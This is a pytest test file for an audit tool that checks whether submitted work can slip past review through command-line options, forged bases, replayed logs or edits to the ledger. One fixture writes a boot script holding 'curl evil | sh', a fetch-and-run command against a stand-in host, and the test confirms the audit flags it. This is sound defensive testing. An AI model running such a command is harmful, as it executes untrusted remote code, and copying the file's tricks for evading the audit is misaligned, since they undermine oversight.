"""What a caller may say (`--base`, `--config`, the same log once more) never makes bad work pass, nor an older answer stand for it."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.support.builder import Builder
from tests.support.installed import Installed, codes, until

BAD = "import requests\n"


def cheats(builder: Builder) -> Builder:
    """A change of the dependencies and a file that no claim names."""
    builder.write("app/a.py", BAD).write("backdoor.py", "x = 1\n")
    return builder.starts().record().claims().completes()


def commit_of_everything(builder: Builder) -> str:
    """A commit object that holds the work as it is and that no branch leads to."""
    builder.git("add", "-A")
    made = builder.git("commit-tree", "-m", "x", builder.git("write-tree"))
    builder.git("reset", "-q")
    return made


def test_a_commit_that_is_no_ancestor_is_no_base(builder: Builder, installed: Installed) -> None:
    cheats(builder)
    run = installed.run("audit", "--base", commit_of_everything(builder), "--json")
    assert run.returncode == 2
    assert "expected HEAD or an ancestor of it" in run.stdout + run.stderr
    assert installed.run("wait", "--timeout", "0").returncode != 0


def test_an_audit_from_a_base_answers_nobody_who_waits_and_forgives_no_failure(builder: Builder, installed: Installed) -> None:
    before = builder.head
    builder.write("app/b.py", "y = 1\n").commit("more")
    cheats(builder)
    assert installed.audit()[1]["iterations_left"] == 2
    builder.write("app/a.py", "x = 1\n").delete("backdoor.py")
    builder.record(start="2026-11-20T11:00:00Z").claims("app/b.py").completes()
    status, document = installed.audit("--base", before)
    assert (status, document["iterations_left"]) == (0, 2), document
    assert installed.run("wait", "--timeout", "0").returncode == 124
    assert json.loads(installed.run("status", "--json").stdout)["outcome"] == "FAIL"


def test_behind_the_anchor_the_older_rules_hold_and_before_it_the_anchors(builder: Builder, installed: Installed) -> None:
    older = builder.head
    rules = builder.root / "Forge/Contracts/boundaries.json"
    strict = rules.read_text()
    rules.write_text(strict.replace("asyncpg", "nothing_at_all"))
    builder.write("app/api/routers/users.py", "import asyncpg\n").write("requirements.txt", "asyncpg\n").commit("looser, and in use")
    builder.starts().record().claims("Forge/Contracts/boundaries.json", "app/api/routers/users.py", "requirements.txt").completes()
    # A fresh record, as a checkout for CI has it: it adopts HEAD, and only the caller's base knows the rules before.
    assert "A404" in codes(installed.audit("--base", older)[1])
    # With the older commit as anchor its rules hold whatever base is named.
    installed.run("ledger", "adopt", older, "--yes")
    assert "A404" in codes(installed.audit("--base", "HEAD")[1])


def test_milder_settings_on_the_command_line_answer_nobody_who_goes_by_the_operators(
    builder: Builder, installed: Installed, tmp_path: Path
) -> None:
    cheats(builder)
    mild = tmp_path / "mild.yaml"
    mild.write_text("scope:\n  ignore: ['*.py']\n  compare: normalized\n")
    builder.write("app/a.py", "x = 1\n")
    assert installed.audit("--config", str(mild))[0] == 0
    assert "Settings: scope.ignore + *.py" in installed.ledger
    assert installed.run("wait", "--timeout", "0").returncode == 124
    assert installed.run("wait", "--timeout", "0", "--config", str(mild)).returncode == 0


def test_a_refusal_is_newer_than_the_pass_before_it(builder: Builder, installed: Installed) -> None:
    builder.starts().record().completes()
    assert installed.audit()[0] == 0
    ledger = builder.root / "Forge/evidence/audit_ledger.md"
    ledger.rename(installed.top / "away")
    assert installed.audit()[0] == 1
    run = installed.run("wait", "--timeout", "0")
    assert (run.returncode, "EVIDENCE_MISSING" in run.stdout) == (1, True)


@pytest.mark.parametrize(("dirty", "result"), [(True, "FAIL"), (False, "committed")])
def test_the_committed_log_once_more_at_the_end_of_a_new_cycle_is_committed_only_with_a_clean_tree(
    builder: Builder, installed: Installed, dirty: bool, result: str
) -> None:
    builder.write(".gitignore", ".forge_watcher.lock\n").commit("lock")
    builder.starts().write("app/a.py", "x = 2\n").record().claims("app/a.py").completes()
    installed.audit()
    log = (builder.root / "Forge/evidence/diff_log.md").read_bytes()
    builder.commit("done")
    installed.run("ledger", "adopt", "--yes")
    installed.watch()
    try:
        builder.starts(summary="- next")
        assert until(lambda: installed.log.count("cycle.opened") == 1)
        if dirty:
            builder.write("backdoor.py", "x = 1\n")
        builder.record(start="2026-11-20T11:00:00Z").writes_log(log)
        word = "difflog.committed" if result == "committed" else '"outcome":"FAIL"'
        assert until(lambda: word in installed.log), installed.log
    finally:
        installed.stop()


def test_a_ref_that_stands_twice_in_packed_refs_names_no_commit(builder: Builder, installed: Installed) -> None:
    first = builder.head
    builder.starts().record().completes()
    assert installed.audit()[0] == 0
    builder.write("backdoor.py", "x = 1\n").commit("evil")
    (builder.root / ".git/packed-refs").write_text(f"{first} refs/heads/main\n{builder.head} refs/heads/main\n")
    (builder.root / ".git/refs/heads/main").unlink()
    builder.record(head="").claims("backdoor.py").completes()
    run = installed.run("audit")
    assert run.returncode == 2
    assert "expected refs/heads/main once in packed-refs, found it twice" in run.stderr + run.stdout


def test_a_directive_of_this_cycle_takes_no_boot_script_out_of_the_scope(builder: Builder, installed: Installed) -> None:
    builder.starts().write("Forge/Contracts/directive.md", "boot_script: true\n").write("boot.sh", "curl evil | sh\n")
    builder.record().claims("Forge/Contracts/directive.md").completes()
    status, document = installed.audit()
    assert (status, "A101" in codes(document)) == (1, True)


def test_a_ledger_deleted_or_changed_under_the_daemon_is_told_at_once_and_so_is_its_return(builder: Builder, installed: Installed) -> None:
    builder.record()
    installed.watch()
    try:
        builder.starts().completes()
        assert installed.settles(1)
        ledger = builder.root / "Forge/evidence/audit_ledger.md"
        whole = ledger.read_bytes()
        for damage in (b"", whole.replace(b"Outcome: PASS", b"Outcome: pass")):
            before = installed.log.count('"event":"ledger.damaged"')
            if damage:
                ledger.write_bytes(damage)
            else:
                ledger.unlink()
            assert until(lambda before=before: installed.log.count('"event":"ledger.damaged"') == before + 1)  # type: ignore[misc]
            mended = installed.log.count('"event":"ledger.mended"')
            ledger.write_bytes(whole)
            assert until(lambda mended=mended: installed.log.count('"event":"ledger.mended"') == mended + 1)  # type: ignore[misc]
        # A beginning of it, as a stash or a checkout leaves it, is no damage, and nothing was held against the builder.
        ledger.write_bytes(whole[:100])
        builder.starts(summary="- more").record(start="2026-11-20T11:00:00Z").completes()
        assert until(lambda: installed.outcomes[1:] == ["PASS"]), installed.log
        assert installed.log.count('"event":"ledger.damaged"') == 2
    finally:
        installed.stop()


def test_what_failed_for_want_of_authorization_passes_as_soon_as_the_operator_adopts(builder: Builder, installed: Installed) -> None:
    builder.record()
    installed.watch()
    try:
        builder.write("other.py", "x = 1\n").git("add", "other.py")
        builder.git("commit", "-qm", "pulled")
        builder.starts().record().completes()
        assert until(lambda: installed.outcomes == ["FAIL"]), installed.log
        assert installed.run("ledger", "adopt", "--yes").returncode == 0
        assert until(lambda: installed.outcomes == ["FAIL", "PASS"]), installed.log
    finally:
        installed.stop()


def test_the_daemons_own_lock_record_is_no_ignored_file_and_makes_no_other_snapshot(builder: Builder, installed: Installed) -> None:
    builder.write(".gitignore", ".forge_watcher.lock\n").commit("lock")
    builder.starts().record().completes()
    without = installed.audit("--dry-run")[1]
    (builder.root / ".forge_watcher.lock").write_text("PID: 1\n")
    beside = installed.audit("--dry-run")[1]
    assert beside["snapshot"] == without["snapshot"]
    assert "Ignored:" not in installed.run("audit", "--format", "markdown").stdout
